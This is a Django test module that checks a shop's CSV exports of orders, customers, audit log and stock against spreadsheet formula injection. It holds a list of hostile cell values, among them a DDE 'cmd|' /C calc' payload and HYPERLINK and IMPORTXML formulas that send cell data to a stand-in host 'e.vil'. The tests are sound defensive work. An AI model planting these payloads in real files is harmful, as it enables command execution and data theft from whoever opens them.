"""T-CSV (A40): whatever shoppers and staff write, no cell of an exported file is run by a spreadsheet.

Files are read back as a spreadsheet does that separates by comma, by semicolon (as in Indonesia) or by tab.
"""

import ast
import csv
import re
from collections.abc import Callable
from datetime import UTC, datetime
from io import StringIO
from itertools import product

from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.customers.models import Customer
from core.kernel import audit, ids
from core.kernel.exports import csv_file
from core.kernel.models import AuditEntry
from core.orders.models import Order, OrderLine
from tenants.models import Store, User
from tenants.permissions import Actor
from tests.architecture.source import dotted, files, name_of, tree
from tests.factories.customers import customer
from tests.factories.inventory import location, stock
from tests.factories.orders import placed_order
from tests.factories.shipping import table_method

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "|", "%")
BEFORE = (
    "",
    " ",
    "\u00a0",
    "\u2003",
    "\u200b",
    "\ufeff",
    "\u202e",
    "x;",
    "x;  ",
    "x\t",
    "x\n",
    'x";',
    "x\r\n",
)
AFTER = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://e.vil/?"&A1,"x")',
    "SUM(1,2)",
    'IMPORTXML(CONCAT("https://e.vil/",A2),"//a")',
    '1";=1',
)
HOSTILE = ["".join(parts) for parts in product(BEFORE, SIGNS, AFTER)][:1000]


def test_there_are_a_thousand():
    assert len(set(HOSTILE)) == 1000


FORMULA = re.compile(r"[\s\x00-\x1f\u200b\u202e\ufeff]*[=+\-@＝＋－＠|%](?!\d*$)")


def runs(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula; a plain number is none."""
    return FORMULA.match(cell) is not None


def cells(content: bytes) -> list[str]:
    """Every cell of a file, in each of the three ways to read it."""
    text = content.decode().removeprefix("\ufeff")
    found = []
    for separator in (",", ";", "\t"):
        for row in csv.reader(StringIO(text, newline=""), delimiter=separator):
            found.extend(row if separator == "," else row[1:] or row)
    return found


LONG = settings(
    max_examples=1000,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=list(HealthCheck),
)
texts = st.one_of(
    st.text(max_size=40),
    st.tuples(st.sampled_from(BEFORE), st.sampled_from(SIGNS), st.text(max_size=20)).map("".join),
)


@settings(
    max_examples=1000, deadline=None, database=None, derandomize=True, suppress_health_check=list(HealthCheck)
)
@given(st.lists(texts, min_size=1, max_size=4))
def test_no_text_becomes_a_formula(row: list[str]):
    assert not [cell for cell in cells(csv_file("x", ["Kepala"], [row]).content) if runs(cell)]


@settings(LONG, max_examples=300)
@given(
    st.text(
        alphabet=st.characters(categories=("L", "N", "P", "Zs"), exclude_characters="=+-@|%;＝＋－＠＂'\"")
    )
)
def test_harmless_text_comes_back_as_it_was(text: str):
    content = csv_file("x", ["Kepala"], [[text, 7]]).content.decode().removeprefix("\ufeff")

    assert list(csv.reader(StringIO(content, newline="")))[1] == [text, "7"]


def clones(row, unique: Callable[[int], dict], fields: tuple[str, ...]):
    """A thousand copies of a row, each with another hostile text in every text column."""
    model = type(row)
    facts = {f.attname: getattr(row, f.attname) for f in model._meta.concrete_fields if not f.primary_key}
    sizes = {name: model._meta.get_field(name).max_length or 500 for name in fields}
    return model.objects.bulk_create(
        model(**{**facts, **unique(number), **{name: text[: sizes[name]] for name in fields}})
        for number, text in enumerate(HOSTILE)
    )


def exported(sari: User, dashboard: Callable[..., Client], path: str, at_least: int) -> list[str]:
    answer = dashboard(sari).get(path)
    assert answer.status_code == 200 and answer.headers["Content-Disposition"].startswith("attachment")
    found = cells(answer.content)
    assert len(found) > at_least
    return [cell for cell in found if runs(cell)]


def test_orders(store: Store, sari: User, dashboard: Callable[..., Client]):
    row = placed_order()
    made = clones(
        row,
        lambda n: {"public_id": ids.new_id("ord"), "number": f"SO-9{n}", "token": ids.new_id("tok")},
        (
            *("customer_name", "phone", "email", "recipient_name", "address_line", "landmark", "regency"),
            *("village", "district", "province", "postcode", "note", "staff_note"),
        ),
    )
    OrderLine.objects.bulk_create(
        OrderLine(
            order=each,
            variant_id=1,
            sku=text[:64],
            product_title="x",
            quantity=1,
            unit_amount=1,
            total_amount=1,
        )
        for each, text in zip(made, HOSTILE, strict=True)
    )
    for each, text in zip(made, HOSTILE, strict=True):
        each.tags = [text[:40]]
    Order.objects.bulk_update(made, ["tags"])

    assert exported(sari, dashboard, "/orders/export.csv", 20_000) == []


def test_customers(store: Store, sari: User, dashboard: Callable[..., Client]):
    made = clones(
        customer(),
        lambda n: {"public_id": ids.new_id("cus"), "phone": f"+62999{n}", "email": f"a{n}@x.example"},
        ("name", "note"),
    )
    for each, text in zip(made, HOSTILE, strict=True):
        each.tags = [text[:40]]
    Customer.objects.bulk_update(made, ["tags"])

    assert exported(sari, dashboard, "/customers/export.csv", 8_000) == []


def test_the_audit_log(store: Store, sari: User, dashboard: Callable[..., Client]):
    audit.write(actor=Actor("MEMBER", "1", "x"), action="x", subject="x", subject_id="x", changes={})
    moment = datetime(2026, 7, 1, tzinfo=UTC)
    AuditEntry.objects.bulk_create(
        AuditEntry(
            at=moment,
            actor_kind="MEMBER",
            actor_id="1",
            actor_name=text[:80],
            action=text[:40],
            subject=text[:30],
            subject_id=text[:40],
            changes={text: [text, {text: text}]},
        )
        for text in HOSTILE
    )

    assert exported(sari, dashboard, "/settings/audit/export.csv", 10_000) == []


def test_stock_of_a_day(store: Store, sari: User, dashboard: Callable[..., Client]):
    place = location()
    for text in HOSTILE[::40]:
        item = stock(1, at=place)
        type(item.variant).objects.filter(pk=item.variant_id).update(sku=text[:64], title=text[:100])
        type(item.variant.product).objects.filter(pk=item.variant.product_id).update(title=text[:150])
    type(place).objects.filter(pk=place.pk).update(name=HOSTILE[0][:60])

    assert exported(sari, dashboard, "/stock/past/export/", 100) == []


def test_rates(store: Store, sari: User, dashboard: Callable[..., Client]):
    method = table_method()

    assert dashboard(sari).get(f"/shipping/{method.public_id}/rates/export/").status_code == 200


def test_every_file_is_written_by_the_one_writer():
    """Whoever writes CSV anywhere else writes it without the apostrophes."""
    writers = [
        name_of(path)
        for path in files()
        for node in ast.walk(tree(path))
        if isinstance(node, ast.Call) and dotted(node.func) in {"csv.writer", "csv.DictWriter"}
    ]
    typed = [name_of(path) for path in files() if "text/csv" in path.read_text()]
    # The second one speaks to our own reader, through a pipe.
    assert writers == ["core/kernel/exports.py", "core/kernel/sheet_worker.py"]
    assert sorted(typed) == ["core/catalog/forms.py", "core/kernel/exports.py", "core/shipping/forms.py"]
